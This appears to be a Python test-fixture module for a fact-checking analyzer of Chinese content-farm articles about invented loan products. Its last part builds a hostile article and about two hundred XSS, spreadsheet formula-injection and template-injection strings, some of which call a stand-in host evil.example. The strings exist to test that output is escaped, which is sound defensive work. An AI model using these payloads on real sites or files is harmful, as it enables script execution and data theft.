"""Made-up runs: articles about invented products, with every verdict, damage, removal, conflict and hostile text."""

from collections.abc import Sequence
from random import Random

from analyzer.language import Phrase
from analyzer.model import (
    Article,
    Cardinality,
    Checked,
    Claim,
    Cluster,
    Conflict,
    Document,
    Edge,
    EdgeKind,
    Entity,
    EntityValue,
    Fact,
    FactTable,
    Gap,
    GapKind,
    Grade,
    Judgement,
    PageKind,
    PartialDate,
    Predicate,
    Quantity,
    Reach,
    Reading,
    Removal,
    Repair,
    Run,
    Score,
    Side,
    SiteRow,
    SpinPair,
    Spread,
    Stance,
    Status,
    Tier,
    UnknownValue,
    Value,
    Verdict,
)
from analyzer.text import Change, Span, View

PRODUCTS = ("青禾贷", "海螺花", "星桥白卡", "云杉借", "麦田分期")
OWNERS = ("青禾银行", "北岸科技", "星桥集团", "云杉消费金融", "麦田小贷")


def both(words: str) -> Phrase:
    return Phrase(zh=words, en=f"[en] {words}")


def table(facts: Sequence[Fact] = ()) -> FactTable:
    """Return a table of five products with owner, quota and starting year."""
    entities = {
        f"p{k}": Entity(id=f"p{k}", name=name, type="product", aliases=(f"{name}借款",), row=k + 2)
        for k, name in enumerate(PRODUCTS)
    } | {f"o{k}": Entity(id=f"o{k}", name=name, type="org", row=k + 7) for k, name in enumerate(OWNERS)}
    predicates = {
        p.id: p
        for p in (
            _predicate("operator", "运营方", "org", Cardinality.CLOSED, severity="high"),
            _predicate("quota", "最高额度", "number", Cardinality.SINGLE, unit="元"),
            _predicate("launched", "上线时间", "date", Cardinality.SINGLE, severity="low"),
        )
    }
    rows = list(facts) or [
        *(_fact(f"F{k}", f"p{k}", "operator", EntityValue(id=f"o{k}"), OWNERS[k], k) for k in range(5)),
        *(_fact(f"Q{k}", f"p{k}", "quota", _yuan(50_000.0 * (k + 1)), f"{50000 * (k + 1)}", k) for k in range(4)),
        *(_fact(f"L{k}", f"p{k}", "launched", PartialDate(year=2014 + k), f"{2014 + k}", k) for k in range(5)),
        Fact(id="D1", subject="p0", predicate="quota", value=_yuan(300_000.0), written="300000", row=30),
    ]
    by_key: dict[tuple[str, str], tuple[Fact, ...]] = {}
    for row in rows:
        by_key[row.subject, row.predicate] = (*by_key.get((row.subject, row.predicate), ()), row)
    return FactTable(
        entities=entities,
        predicates=predicates,
        facts=tuple(rows),
        by_key=by_key,
        digest="0123456789abcdef",
        vocabulary_digest="feedbeef",
        newest_check=PartialDate(year=2026, month=11, day=1),
    )


def _predicate(
    id_: str, label: str, kind: str, many: Cardinality, *, unit: str = "", severity: str = "medium"
) -> Predicate:
    return Predicate(
        id=id_, label=label, subject_types=("product",), value_types=(kind,), cardinality=many, templates=(), unit=unit,
        severity=severity, row=2,
    )  # fmt: skip


def _fact(id_: str, subject: str, predicate: str, value: Value, written: str, k: int) -> Fact:
    return Fact(
        id=id_, subject=subject, predicate=predicate, value=value, written=written,
        grade=Grade.EXACT, valid_to=PartialDate(year=2022, month=7) if id_ == "Q3" else None,
        source_url=f"https://example.org/yearbook/{id_}", source_title=f"{PRODUCTS[k]}年度报告",
        checked_on="2026-11-01", checked_by="许知远" if k % 2 else "", row=k + 2,
    )  # fmt: skip


def _yuan(amount: float) -> Quantity:
    return Quantity(low=amount, high=amount, unit="元")


class Writer:
    """Writes one article piece by piece and keeps the offsets."""

    def __init__(self, id_: str, facts: FactTable) -> None:
        self.id, self.table = id_, facts
        self.source = ""
        self.judgements: list[Judgement] = []
        self.removals: list[Removal] = []
        self.gaps: list[Gap] = []
        self.repairs: list[Repair] = []

    def text(self, words: str) -> "Writer":
        self.source += words
        return self

    def claim(
        self, before: str, words: str, after: str, *, subject: str, predicate: str, written: str, value: Value | None,
        verdict: Verdict, fact: str | None = None, tier: Tier = Tier.CONFIRMED, stance: Stance = Stance.ASSERTED,
        code: str = "other_value", reason: str = "",
    ) -> "Writer":  # fmt: skip
        """Write a sentence with a claim in the middle, and the verdict on it."""
        start = len(self.source)
        self.source += before + words + after
        claim = Claim(
            article=self.id, start=start + len(before), end=start + len(before) + len(words),
            sentence=before + words + after, sentence_start=start, subject=self.table.entities[subject].name,
            subject_id=subject, predicate=predicate, written=written, value=value, stance=stance,
            rule=f"{predicate}/attributive",
        )  # fmt: skip
        self.judgements.append(
            Judgement(
                claim=claim, verdict=verdict, tier=tier, fact=fact, code=code,
                reason=both(reason or f"事实表 {fact} 记的是另一个值,不是“{written}”"),
            )
        )  # fmt: skip
        return self

    def remove(self, words: str, rule: str, reason: str) -> "Writer":
        start = len(self.source)
        self.source += words
        self.removals.append(
            Removal(start=start, end=len(self.source), rule=rule, text=words, reason=both(reason))
        )  # fmt: skip
        return self

    def gap(self, hole: str, kind: GapKind, *candidates: str, restored: str | None = None) -> "Writer":
        start = len(self.source)
        self.source += hole
        self.gaps.append(
            Gap(
                start=start, end=len(self.source), kind=kind, restored=restored, candidates=candidates,
                evidence="前文“客服”之后缺宾语",
            )
        )  # fmt: skip
        return self

    def repair(self, old: str, new: str, kind: str) -> "Writer":
        start = len(self.source)
        self.source += old
        self.repairs.append(
            Repair(start=start, end=len(self.source), kind=kind, old=old, new=new, evidence=f"{old} → {new}")
        )
        return self

    def done(
        self,
        *,
        title: str,
        site: str | None,
        published: str | None = None,
        cluster: str | None = None,
        url: str | None = None,
    ) -> Checked:
        document = Document(id=self.id, source=self.source, title=title, published=published, site=site, url=url)
        clean = View.of(self.source).cut(Span(r.start, r.end) for r in self.removals)
        article = Article(
            document=document, kind=PageKind.ARTICLE, status=Status.CHECKED, reason=None,
            removals=tuple(self.removals), clean=clean,
        )  # fmt: skip
        changes = [Change(clean.position(r.start), clean.position(r.end), r.new) for r in self.repairs]
        repaired = clean.edit(changes)
        reading = Reading(
            article=article, repaired=repaired, folded=repaired, repairs=tuple(self.repairs), gaps=tuple(self.gaps),
            spin_score=0.31, spin_pairs=(SpinPair(spun="额渡", spun_count=4, plain="额度", plain_count=9),),
        )  # fmt: skip
        farm = Score(value=0.62, parts=(("repeats", 0.4, both("正文重复两遍")), ("spin", 0.22, both("换词 4 处"))))
        return Checked(
            article=article, reading=reading, judgements=tuple(self.judgements), farm=farm, cluster=cluster
        )  # fmt: skip


def article(k: int, facts: FactTable, *, wrong: int = 1, cluster: str | None = None) -> Checked:
    """Return one realistic article about product ``k % 5``; ``wrong`` picks the false owner."""
    p, o = k % 5, (k % 5 + wrong) % 5
    name = PRODUCTS[p]
    w = Writer(f"farm/{k:03}.html", facts)
    w.remove(f"{name}怎么样?看完这篇就懂了 - 首页\n", "title_echo", "与标题相同")
    w.text(f"最近不少读者问起{name},今天就来说一说。\n")
    w.claim(
        f"很多人不知道,{name}其实是", f"{OWNERS[o]}旗下", "的一款消费贷款产品,申请门槛并不高。",
        subject=f"p{p}", predicate="operator", written=OWNERS[o],
        value=EntityValue(id=f"o{o}"), verdict=Verdict.CONTRADICTED, fact=f"F{p}",
        reason=f"{name}的运营方是{OWNERS[p]}({facts.facts[p].id}),文中说是{OWNERS[o]}",
    )  # fmt: skip
    w.text(f"它的{name}页面上写着,").gap("  ", GapKind.SPACE, "利率", "年化利率").text("按日计算,随借随还。\n")
    w.claim(
        "", f"{name}最高可借{5 * (p + 1)}万元", ",", subject=f"p{p}", predicate="quota", written=f"{5 * (p + 1)}万元",
        value=_yuan(50_000.0 * (p + 1)), verdict=Verdict.SUPPORTED if p < 3 else Verdict.OUTDATED, fact=f"Q{min(p, 3)}",
        code="same_value", reason=f"与事实表 Q{min(p, 3)} {'一致' if p < 3 else '的旧值一致,该值 2022-07 已失效'}",
    )  # fmt: skip
    w.text("具体以页面").repair("显(xiǎn)示", "显示", "pinyin").text("为准,不要轻信").repair(
        "微", "徽", "homoglyph"
    ).text("信里的链接。\n")
    w.remove("扫码进群,领取提额秘籍", "footers", "引流文字").text("\n")
    w.claim(
        "据说", f"{name}已经接入了一家正规金融机构", "。",
        subject=f"p{p}", predicate="operator", written="一家正规金融机构",
        value=UnknownValue(name="一家正规金融机构", proper_name=False), verdict=Verdict.UNVERIFIED, code="description",
        stance=Stance.HEDGED, reason="“一家正规金融机构”是描述,不是名称",
    )  # fmt: skip
    w.text("如需帮助,可拨打").gap("", GapKind.MERGED, "客服电话").text("咨询。\n")
    w.remove(
        "相关阅读\n1. 逾期三天怎么办\n2. 额度突然没了\n3. 征信花了还能贷吗\n", "related", "“相关阅读”以下的标题列表"
    )
    w.remove("网友评论:\n小李:已下款,谢谢!\n小王:客服很耐心。", "comments", "评论区")
    return w.done(
        title=f"{name}是哪家公司的?额度、利率一次说清",
        site=f"site{k % 7}.example.cn",
        published=f"20{19 + k % 7}-{1 + k % 12:02}-{1 + k % 28:02}",
        cluster=cluster,
        url=f"http://site{k % 7}.example.cn/a/{k}.html",
    )


def run(articles: int = 12) -> Run:
    """Return a run with every kind of thing in it."""
    facts = table()
    random = Random(7)
    checked = [
        article(k, facts, wrong=1 + random.randrange(2), cluster="D-1" if k in (0, 5) else None)
        for k in range(articles)
    ]
    checked.append(hostile_article(facts))
    failed = Document(id="farm/坏文件.html", failure=both("不是文本:前 512 字节里有 40 个零字节"))
    for document, status in (
        (failed, Status.FAILED),
        (Document(id="farm/list.html", source="栏目页", title="栏目"), Status.SKIPPED),
    ):
        reason = document.failure or both("列表页,不是文章")
        checked.append(
            Checked(
                article=Article(
                    document=document, kind=PageKind.LIST, status=status, reason=reason, removals=(),
                    clean=View.of(document.source),
                ),
                reading=None, judgements=(),
            )
        )  # fmt: skip
    checked.sort(key=lambda c: c.article.id)
    conflict = Conflict(
        subject_id="p4", predicate="quota",
        sides=(
            Side(value="25万元", value_id="250000", articles=("farm/004.html",), voices=1),
            Side(value="20万元", value_id="200000", articles=("farm/009.html",), voices=1),
        ),
    )  # fmt: skip
    return Run(
        version="0.0",
        input=("farm",),
        table=facts,
        checked=tuple(checked),
        conflicts=(conflict,),
        clusters=(Cluster(id="D-1", articles=("farm/000.html", "farm/005.html")),),
        edges=(
            Edge(
                left="farm/000.html", right="farm/005.html", kind=EdgeKind.EDITED, of_left=0.9, of_right=0.9, shared=300
            ),
        ),
        spread=(
            Spread(
                sentence="具体以页面显示为准。",
                articles=("farm/000.html", "farm/001.html", "farm/002.html"),
                sites=("site0.example.cn", "site1.example.cn"),
                reach=Reach.COMMON,
            ),
            Spread(
                sentence="<b>关注</b>我们\u202e",
                articles=("farm/000.html", "farm/005.html"),
                sites=(),
                reach=Reach.COPIED,
            ),
        ),
        sites=tuple(
            SiteRow(
                site=site,
                articles=2,
                copied=1,
                findings=3 - k % 3,
                claims=6,
                gaps=k,
                removed_share=0.25,
                farm=0.6,
                listed=("农场名单.txt:12",) if k == 1 else (),
            )
            for k, site in enumerate([*(f"site{n}.example.cn" for n in range(7)), '" onmouseover=alert(6) x="'])
        ),
    )


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style><svg onload=alert(1)>",
    "\u202e倒着读\u202c",
    "\u200b零宽\u200d\ufeff",
    "=cmd|'/C calc'!A0",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "مرحبا بالعالم",
    "👩\u200d👩\u200d👧🏽𠮷𝒳",
    "\x00\x07\x1b[31m",
    "a" * 400,
)


def hostile_article(facts: FactTable) -> Checked:
    """Return an article whose every part tries something."""
    w = Writer("farm/<b>&\"'.html", facts)
    for words in HOSTILE:
        w.text(words + "\n")
    w.remove("</div><script>alert(2)</script>\n", "<i>rule</i>", "<b>理由</b>")
    w.claim(
        "</blockquote>", "=HYPERLINK(\"http://evil.example\",\"x\")<script>alert(3)</script>", "\u202e尾", subject="p0",
        predicate="operator", written="=1+1<script>", value=UnknownValue(name="=1+1<script>", proper_name=True),
        verdict=Verdict.CONTRADICTED, tier=Tier.SUGGESTED, fact="F0", reason="<img src=x onerror=alert(4)>",
    )  # fmt: skip
    w.gap("\u202e", GapKind.BYTES, "<b>", "&amp;")
    return w.done(
        title="</title><script>alert(5)</script>\u202e", site="\" onmouseover=alert(6) x=\"", url="javascript:alert(7)"
    )  # fmt: skip


_SHELLS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "</title><script>{}</script>", "\"><script>{}</script>", "' onmouseover={} x='", "<a href=\"javascript:{}\">x</a>",
    "<body onload={}>", "<details open ontoggle={}>x</details>", "</pre></details><script>{}</script>",
    "<style>@import 'http://evil.example/x.css';*{{display:none}}</style><!--{}-->", "<input autofocus onfocus={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<object data=\"javascript:{}\">",
    "<math><mi xlink:href='javascript:{}'>",
    "<form action='javascript:{}'><button id=x>", "<base href='http://evil.example/'>{}", "<video><source onerror={}>",
    "<link rel=stylesheet href='http://evil.example/{}'>", "\u202e<script>{}</script>", "<scr\x00ipt>{}</scr\x00ipt>",
    "＜script＞{}＜/script＞", "&lt;script&gt;{}&lt;/script&gt;", "<!--<script>{}//-->",
)  # fmt: skip
_ACTIONS = (
    "alert(1)", "window.pwned=1", "location='http://evil.example/'", "document.body.remove()",
    "fetch('http://evil.example/')", "eval('window.pwned=2')", "import('http://evil.example/x.js')", "confirm(1)",
)  # fmt: skip
PAYLOADS = tuple(shell.format(action) for shell in _SHELLS for action in _ACTIONS)
"""Two hundred ways to run something, as text, title, site, file name, value and reason."""


def payload_run() -> Run:
    """Return a run of twenty articles that hold every payload in every place."""
    facts = table()
    checked = []
    for k in range(20):
        mine = PAYLOADS[k::20]
        w = Writer(f"p/{k:02}{mine[0]}", facts)
        for words in mine:
            w.text(words + "\n").remove(words + "\n", words, words)
            w.claim(
                "x", words, "y", subject="p0", predicate="operator", written=words, fact="F0", reason=words,
                value=UnknownValue(name=words, proper_name=True), verdict=Verdict.CONTRADICTED, code=words,
            ).text("\n")  # fmt: skip
        checked.append(w.done(title=mine[1], site=mine[2], url=mine[3], published=None))
    return Run(version="0.0", input=("p",), table=facts, checked=tuple(checked))
